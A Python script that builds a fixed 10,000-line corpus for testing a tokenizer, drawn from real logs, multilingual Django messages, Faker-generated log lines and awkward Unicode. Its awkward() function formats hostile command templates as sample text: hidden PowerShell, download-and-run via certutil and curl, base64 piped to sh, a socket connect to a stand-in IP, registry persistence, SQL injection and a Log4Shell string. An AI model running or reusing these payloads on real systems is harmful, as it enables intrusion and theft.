"""Makes corpus.txt, the 10,000 lines on which our tokenizer is held against the reference.

    corpus.py LOGS_FOLDER DJANGO.whl FAKER.whl OUT/corpus.txt

Real logs (examples/logs of this repository), a program's messages in 60 languages (Django's catalogs, BSD licence), log
lines about names and addresses in many scripts (Faker, MIT licence), and text that tokenizers stumble over. See the
README beside corpus.txt. Always the same lines from the same inputs.
"""

import base64
import gettext
import hashlib
import importlib
import io
import json
import pathlib
import random
import sys
import unicodedata
import urllib.parse
import zipfile

LANGUAGES = (
    "zh_Hans zh_Hant ja ko ar he hi th ru el fa bn ta te kn ml mr ne km my ka hy uk bg mk kk mn ur ckb udm os tg "
    "vi tr de fr es pt_BR pl cs hu fi ro sv is ga az lt eo id"
).split()
COUNT = 10_000


def real_logs(folder):
    auth = (folder / "auth.log").read_text().splitlines()
    access = (folder / "access.log").read_text().splitlines()
    return auth + access[:: max(1, len(access) // 300)]


def messages(wheel):
    archive = zipfile.ZipFile(wheel)
    for language in LANGUAGES:
        lines = []
        for name in sorted(archive.namelist()):
            if name.endswith(f"/locale/{language}/LC_MESSAGES/django.mo"):
                catalog = gettext.GNUTranslations(io.BytesIO(archive.read(name)))._catalog
                texts = [text for key, text in sorted(catalog.items(), key=str) if key]
                lines += [line for text in texts for line in text.split("\n") if 8 <= len(line) <= 70]
        yield from pick(sorted(set(lines)), 122, language)


def pick(lines, count, salt):
    order = sorted(lines, key=lambda line: hashlib.sha256((salt + line).encode()).digest())
    return order[:count]


def composed(wheel, draw):
    """Log lines whose users, hosts and addresses are written in many scripts."""
    sys.path.insert(0, str(wheel))
    faker = importlib.import_module("faker")
    locales = "zh_CN zh_TW ja_JP ko_KR ar_SA he_IL hi_IN th_TH ru_RU el_GR fa_IR bn_BD ta_IN hy_AM ka_GE uk_UA".split()
    locales += "bg_BG ne_NP vi_VN de_DE fr_FR pl_PL tr_TR cs_CZ is_IS en_US".split()
    for locale in locales:
        fake = faker.Faker(locale)
        fake.seed_instance(20261125)
        for i in range(70):
            user, company, city = fake.name(), fake.company(), fake.city()
            ip, port, pid = fake.ipv4(), draw.randrange(1024, 65536), draw.randrange(300, 99999)
            yield [
                f"<38>Nov 25 03:{i % 60:02}:17 host sshd[{pid}]: Failed password for invalid user {user} from {ip} port {port} ssh2",
                f'{ip} - {user} [25/Nov/2026:02:15:00 +0000] "GET /{urllib.parse.quote(city)}?q={urllib.parse.quote_plus(company)} HTTP/1.1" 404 {pid}',
                json.dumps({"user": user, "org": company, "src": ip, "ok": i % 2 == 0}, ensure_ascii=False),
                json.dumps({"msg": city, "subject": f"CN={user}"}),
                f"level=warn user=\"{user}\" city={city} port={port} err=\"permission denied\"",
                f"CEF:0|Security|IDS|1.0|{pid}|{company}|{i % 10}|src={ip} suser={user} msg={city}",
                f"{user}\t{company}\t{city}\t{ip}:{port}",
            ][i % 7]


def awkward(draw):
    """Encodings, command lines, escapes, and the corners of Unicode."""
    data = lambda count: bytes(draw.randrange(256) for _ in range(count))
    commands = [
        "powershell.exe -NoP -NonI -W Hidden -Enc {b}",
        "cmd.exe /c \"certutil -urlcache -split -f http://198.51.100.{n}/{h}.exe %TEMP%\\{h}.exe & start %TEMP%\\{h}.exe\"",
        "bash -c 'echo {b}|base64 -d|sh' 2>&1 >/dev/null &",
        "curl -fsSL https://example.net/{h}?x={u} -o /tmp/.{h} && chmod +x $_",
        "python3 -c \"import socket,os;s=socket.socket();s.connect(('203.0.113.{n}',{p}))\"",
        "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {h} /t REG_SZ /d C:\\Users\\Public\\{h}.dll /f",
        "SELECT * FROM users WHERE id={n} UNION ALL SELECT NULL,CONCAT(0x{h},user,0x{h})-- -",
        "${{jndi:ldap://203.0.113.{n}:{p}/{h}}}",
        "type=EXECVE msg=audit(17{p}.{n}:{p}): argc=3 a0=\"sh\" a1=\"-c\" a2={h}",
        "sha256={h}{h}{h}{h} md5={h} size={p}",
        "\x1b[1;31mERROR\x1b[0m \x1b[{n}m{h}\x1b[K",
        "{n}-{p}-{h}  {n}{p}{n}{p}  {p}.{n}e-{n} 0x{h} 1,{n},{p} ${p}.00 {n}%",
        "don't can't I'll we've he'd it's O'Reilly's {h}'S 'Re 'LL {n}'s",
    ]
    for i in range(700):
        n, p, h = draw.randrange(256), draw.randrange(65536), data(8).hex()
        b = base64.b64encode(data(18)).decode()
        yield commands[i % len(commands)].format(n=n, p=p, h=h, b=b, u=urllib.parse.quote(data(9)))
    blocks = [
        (0x00A0, 0x0250), (0x0300, 0x0370), (0x0370, 0x0530), (0x0530, 0x0780), (0x0900, 0x0E80), (0x0E80, 0x1100),
        (0x1100, 0x1400), (0x1780, 0x1900), (0x1E00, 0x2070), (0x2070, 0x2400), (0x2460, 0x2800), (0x2E80, 0x3100),
        (0x3100, 0x3400), (0x3400, 0x4DC0), (0x4E00, 0xA000), (0xA000, 0xA4D0), (0xAC00, 0xD7A4), (0xE000, 0xE100),
        (0xF900, 0x10000), (0x10000, 0x10400), (0x12000, 0x12400), (0x1D400, 0x1D800), (0x1F000, 0x1FB00),
        (0x20000, 0x2A6E0), (0xE0000, 0xE0080),
    ]
    for i in range(500):
        low, high = blocks[i % len(blocks)]
        word = lambda: "".join(chr(draw.randrange(low, high)) for _ in range(draw.randrange(1, 7)))
        yield draw.choice([" ", "  ", "", ":", "1", "a ", "\t"]).join(word() for _ in range(draw.randrange(1, 5)))
    fixed = [
        "👩‍💻 👨‍👩‍👧‍👦 🏳️‍🌈 🇩🇪🇯🇵 👍🏽 ☠️ ✅❌⚠️ 1️⃣", "ok 👍👍👍 done 🎉!", "\u200b\u200c\u200d\u2060\ufeff zero width", "a\u0301e\u0301 é ñ n\u0303 Å A\u030a",
        "Z̴͚͔a͟l̷͕g̢o̴ t̶e̵x̸t̷", "ｆｕｌｌ　ｗｉｄｔｈ １２３", "\u202eevil\u202c.exe", "٣٤٥ ۱۲۳ १२३ ৪৫৬ ๑๒๓ ⅷ ½ ² ①", "ﬁ ﬂ ﬀ ǆ ß ẞ İ ı",
        "\ufffd\ufffd\ufffd invalid \ufffe \uffff", "\x00\x01\x02\x07\x08\x0b\x0c\x0e\x1f\x7f\x80\x85\x9f", " leading", "trailing ", "  two  spaces  ",
        "\ttab\ttab\t\t", "\u00a0nbsp\u00a0\u2003em\u2009thin\u3000wide", " ", "  ", "   ", "\t", " \t ", "a", "'", "''s", "'s's", "''''", "\"\"\"", "…", "—", "--", "==",
        "====================", "................................", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "0000000000000000000", "1" * 70, "12345678901234567890",
        "▁", "▁▁a", "<0x0A>", "<unk>", "<s>", "</s>", "<|im_start|>system", "<|im_end|>", "<|endoftext|>", "[INST] x [/INST]", "Ġ Ċ č", "Ã©", "\\n\\r\\t\\x41\\u00e9",
    ]
    yield from fixed
    for text in fixed:
        yield unicodedata.normalize("NFD", text) + " " + text * 2
    for i in range(160):
        yield draw.choice([" ", "a", "é", "漢", "1", "!", "\t", "🙂", "\u0301"]) * draw.randrange(1, 40) + draw.choice(["", "x", " x", "1", "!"])


def main(logs, django, faker, out):
    draw = random.Random(20261125)
    lines = real_logs(logs) + list(composed(faker, draw)) + list(awkward(draw))
    lines = [line.replace("\n", "\r") for line in lines]
    lines += pick(list(messages(django)), COUNT - len(lines), "")
    assert len(lines) == COUNT, len(lines)
    out.write_bytes(("\n".join(lines) + "\n").encode())


if __name__ == "__main__":
    main(*map(pathlib.Path, sys.argv[1:]))
